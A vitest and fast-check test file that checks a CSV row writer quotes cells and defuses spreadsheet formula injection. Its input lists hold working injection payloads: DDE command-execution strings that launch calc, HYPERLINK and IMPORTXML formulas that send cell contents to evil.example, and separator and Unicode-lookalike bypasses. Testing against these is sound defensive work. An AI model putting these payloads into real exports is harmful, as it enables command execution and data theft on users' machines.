import * as fc from 'fast-check'
import { expect, test } from 'vitest'
import { csvRow } from './csv.ts'

test('a row is quoted as RFC 4180 requires, and ends with CRLF', () => {
  expect(csvRow(['plain', 'a "quoted" word', 'a, b; c', 'two\r\nlines', 'شركة', ''])).toBe(
    '"plain","a ""quoted"" word","a, b; c","two\r\nlines","شركة",""\r\n',
  )
})

test('lists are separated by semicolons, times are in UTC, and missing values and empty lists are empty cells', () => {
  const at = new Date('2026-03-01T23:04:05.678+03:00')
  expect(csvRow([['Delay analysis', 'Expert witness'], [], at, null])).toBe(
    '"Delay analysis; Expert witness","","2026-03-01 20:04:05",""\r\n',
  )
})

test.for(['=1+1', '+962 6 500', '-1', '@SUM(A1)', '\t1', '\r1', '\n1', '=HYPERLINK("https://evil.example")'])(
  'a value that begins like a formula is text: %j',
  (formula) => {
    expect(csvRow([formula])).toBe(`"'${formula.replaceAll('"', '""')}"\r\n`)
    expect(csvRow([[formula, 'x']])).toBe(`"'${formula.replaceAll('"', '""')}; x"\r\n`)
  },
)

test.for([
  ['x;=1+1', "x;'=1+1"],
  [";-2+3+cmd|' /C calc'!A0", ";'-2+3+cmd|' /C calc'!A0"],
  ['x,+1', "x,'+1"],
  ['x|@SUM(A1)', "x|'@SUM(A1)"],
  ['x\t-1', "x\t'-1"],
  ['x\n@SUM(A1)', "x\n'@SUM(A1)"],
  ['x\r\n=1', "x\r\n'=1"],
  ['\t=1', "'\t'=1"],
  ['x; \u00A0=1', "x;' \u00A0=1"],
  ['x;;=1;=2', "x;;'=1;'=2"],
  ['x;"=1;"', `x;'""=1;""`],
  ['x;＝1', "x;'＝1"],
  ['- one\n- two; +962 6', "'- one\n'- two;' +962 6"],
] as const)(
  'a value that begins like a formula after a separator is text, whichever separator a program uses: %j',
  ([typed, written]) => {
    expect(csvRow([typed])).toBe(`"${written}"\r\n`)
  },
)

test.for([
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '﹦1',
  '﹢1',
  '﹣1',
  '﹫SUM(A1)',
  ' =1',
  '\u00A0=1',
  '\u200B=1',
  '\uFEFF=1',
  '\u000B=1',
  '"=1',
  ' " =1',
])('a value that a spreadsheet reads as a formula after trimming or narrowing it is text: %j', (formula) => {
  expect(csvRow([formula])).toBe(`"'${formula.replaceAll('"', '""')}"\r\n`)
})

test('a sign inside a value changes nothing', () => {
  for (const text of ['a=1', 'T+1', "'=1", 'Amman - Aqaba', '$10M - $50M', 'rana@dalil.example, sami@dalil.example'])
    expect(csvRow([text])).toBe(`"${text}"\r\n`)
})

const PAYLOADS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  ";-2+3+cmd|' /C calc'!A0",
  '"=1+1',
  'x","=1+1","',
  'x";"=1+1";"',
  'x;"=1+1;"',
  "%0A-3+3+cmd|' /C calc'!D2\n-3+3+cmd|' /C calc'!D2",
  '=HYPERLINK("https://evil.example?x="&A1,"Open")',
  '=IMPORTXML(CONCAT("https://evil.example?v=",A1),"//a")',
  ' \t=1+1',
  'x,\u00A0＝1+1',
  'x|\u200B－1',
]
const ANY_TEXT = fc.oneof(
  fc.constantFrom(...PAYLOADS),
  fc.string({ unit: fc.constantFrom(...'=+-@＝＠﹦,;|\t\n\r" \'\u00A0\u200Ba1') }),
)

/**
 * Returns the cells that a program sees if it ignores quoting, without the blanks and quotation marks at their
 * beginning.
 */
const cellsBy = (separator: string, file: string) =>
  file.split(/[\r\n]+/).flatMap((line) => line.split(separator).map((cell) => cell.replace(/^[\s"\p{Cc}\p{Cf}]+/u, '')))

test('no cell begins like a formula, whichever separator a program uses, and whether it knows quoting or not', () => {
  fc.assert(
    fc.property(fc.array(ANY_TEXT, { minLength: 1 }), (texts) => {
      const file = csvRow(texts)
      for (const separator of [',', ';', '\t', '|'])
        for (const cell of cellsBy(separator, file)) expect(cell).not.toMatch(/^[=+\-@＝＋－＠﹦﹢﹣﹫]/)
      const cells = [...file.matchAll(/"((?:[^"]|"")*)"(?:,|\r\n)/gy)].map(([, cell = '']) =>
        cell.replaceAll('""', '"'),
      )
      expect(cells.map((cell) => cell.replaceAll("'", ''))).toEqual(texts.map((text) => text.replaceAll("'", '')))
    }),
    { examples: PAYLOADS.map((payload): [string[]] => [[payload, `x${payload}`]]) },
  )
})
